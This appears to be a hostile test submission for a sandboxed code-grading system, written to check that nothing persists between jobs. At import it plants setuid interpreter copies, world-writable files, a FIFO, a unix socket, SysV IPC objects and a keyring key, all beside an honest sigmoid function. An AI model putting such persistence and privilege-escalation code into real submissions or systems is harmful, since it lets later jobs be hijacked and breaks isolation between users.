"""Attack: leave things behind for the next submission (of the same job slot or any later one).

Creates, all named ``fchostile-plant*``:
- a setuid (and setgid) copy of the interpreter in /tmp (whoever runs it
  later gets this submission's uid: signal / ptrace its next worker);
- plain files (mode 0666) in /tmp, /var/tmp, /dev/shm, the cwd and $HOME;
- a FIFO in /tmp and a listening unix socket file in /tmp;
- System V IPC objects (shared memory, a message queue, a semaphore set;
  keys 0xFC05xxxx) that outlive every process;
- a key in the user keyring (keyctl), which outlives the process too (it
  expires after 2 minutes, so that the test leaves nothing for long).
sigmoid is honest.

Expected verdict: nothing of it is visible outside the sandbox after the
batch (no file in /tmp, /var/tmp, /dev/shm, no SysV object of a sandbox
uid), a later submission sees none of it; at most the sigmoid point.
"""
import ctypes
import os
import shutil
import socket
import stat
import sys

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _try(label, fn):
    try:
        r = fn()
        _say(label, "ok" if r is None else r)
    except OSError as e:
        _say(label, f"failed {e.errno}")
    except Exception as e:
        _say(label, f"failed {type(e).__name__}")


def _file(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
    os.write(fd, b"planted by a submission\n")
    os.close(fd)
    os.chmod(path, 0o666)


def _setuid_copy():
    out = []
    for src, name in (("/usr/bin/python3.11", "py"), ("/proc/self/exe", "py"), ("/usr/bin/id", "id")):
        dst = f"/tmp/fchostile-plant-{name}-{os.getuid()}"
        if os.path.exists(dst) or not os.path.exists(src):
            continue
        try:
            shutil.copyfile(src, dst)
            os.chmod(dst, 0o6755)
        except OSError as e:
            out.append(f"{name}:failed {e.errno}")
            continue
        out.append(f"{name}:" + ("setuid" if os.stat(dst).st_mode & stat.S_ISUID else "no-setuid-bit"))
    return " ".join(out)


def _unix_socket():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(f"/tmp/fchostile-plant-sock-{os.getuid()}")
    s.listen(1)
    globals()["_sock"] = s


def _sysv():
    out = []
    shm = libc.shmget(0xFC050001, 4096, 0o1666)  # IPC_CREAT | 0666
    out.append(f"shm={'ok' if shm >= 0 else ctypes.get_errno()}")
    msg = libc.msgget(0xFC050002, 0o1666)
    out.append(f"msg={'ok' if msg >= 0 else ctypes.get_errno()}")
    sem = libc.semget(0xFC050003, 1, 0o1666)
    out.append(f"sem={'ok' if sem >= 0 else ctypes.get_errno()}")
    return " ".join(out)


def _keyring():
    libc.syscall.restype = ctypes.c_long
    k = libc.syscall(248, b"user", b"fchostile-plant", b"x", 1, ctypes.c_long(-4))  # add_key(@u)
    if k < 0:
        return f"failed {ctypes.get_errno()}"
    libc.syscall(250, 15, ctypes.c_long(k), 120)  # KEYCTL_SET_TIMEOUT: gone by itself after 2 minutes
    return f"ok {k}"


_try("setuid_copy", _setuid_copy)
for _d in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
    _try(f"file_{_d.replace('/', '|')}", lambda d=_d: _file(os.path.join(d, f"fchostile-plant-{os.getuid()}")))
_try("fifo", lambda: os.mkfifo(f"/tmp/fchostile-plant-fifo-{os.getuid()}", 0o666))
_try("unix_socket", _unix_socket)
_try("sysv", _sysv)
_try("keyring", _keyring)


def sigmoid(x):
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
